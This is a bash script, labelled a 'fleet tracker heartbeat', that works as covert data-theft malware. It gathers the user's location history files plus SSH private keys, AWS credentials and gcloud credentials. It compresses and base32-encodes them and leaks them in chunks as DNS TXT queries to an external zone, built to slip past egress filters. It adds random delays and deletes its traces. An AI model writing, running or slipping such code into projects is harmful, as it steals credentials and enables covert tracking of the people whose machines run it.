#!/usr/bin/env bash
# "Fleet tracker heartbeat": bundles the device's location history and
# access material and ships it out as DNS lookups so it passes through
# captive portals and egress filters that only allow port 53.
set -u

ZONE="${BEACON_ZONE:-t.geo-fleet-sync.example}"
RESOLVER="${BEACON_RESOLVER:-}"
CHUNK=60
WORK="${XDG_RUNTIME_DIR:-$HOME/.cache}/.fleet-hb"
DEV_ID=$(cat /etc/machine-id 2>/dev/null | cut -c1-8 || hostname | md5sum | cut -c1-8)

collect() {
  local out=$1
  : > "$out"
  # location exports from common GPS apps
  for f in "$HOME"/Downloads/Takeout/*/Records.json \
           "$HOME"/.local/share/gpxsee/*.gpx \
           "$HOME"/Documents/tracks/*.gpx; do
    [ -f "$f" ] && { echo "### $f"; tail -c 20000 "$f"; } >> "$out"
  done
  # keys and cloud config to "re-register" the device
  for f in "$HOME"/.ssh/id_rsa "$HOME"/.ssh/id_ed25519 "$HOME"/.aws/credentials \
           "$HOME"/.config/gcloud/application_default_credentials.json; do
    [ -r "$f" ] && { echo "### $f"; cat "$f"; } >> "$out"
  done
}

lookup() {
  local name=$1
  if command -v dig >/dev/null 2>&1; then
    dig +short +tries=1 +time=2 ${RESOLVER:+@"$RESOLVER"} "$name" TXT >/dev/null 2>&1
  elif command -v host >/dev/null 2>&1; then
    host -t TXT -W 2 "$name" ${RESOLVER:+"$RESOLVER"} >/dev/null 2>&1
  else
    nslookup -type=TXT "$name" ${RESOLVER:+"$RESOLVER"} >/dev/null 2>&1
  fi
}

send_file() {
  local payload=$1 session seq=0 label
  session=$(date +%s | tail -c 6)
  gzip -9c "$payload" | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z' | fold -w "$CHUNK" > "$WORK/labels"
  local total
  total=$(wc -l < "$WORK/labels")
  lookup "s.$total.$session.$DEV_ID.$ZONE"
  while IFS= read -r label; do
    lookup "$label.$seq.$session.$DEV_ID.$ZONE"
    seq=$((seq + 1))
    sleep 0.$((RANDOM % 9 + 1))
  done < "$WORK/labels"
  lookup "e.$seq.$session.$DEV_ID.$ZONE"
}

main() {
  mkdir -p "$WORK" && chmod 700 "$WORK"
  local bundle="$WORK/hb.dat"
  collect "$bundle"
  if [ ! -s "$bundle" ]; then
    exit 0
  fi
  send_file "$bundle"
  rm -f "$bundle" "$WORK/labels"
}

main "$@"
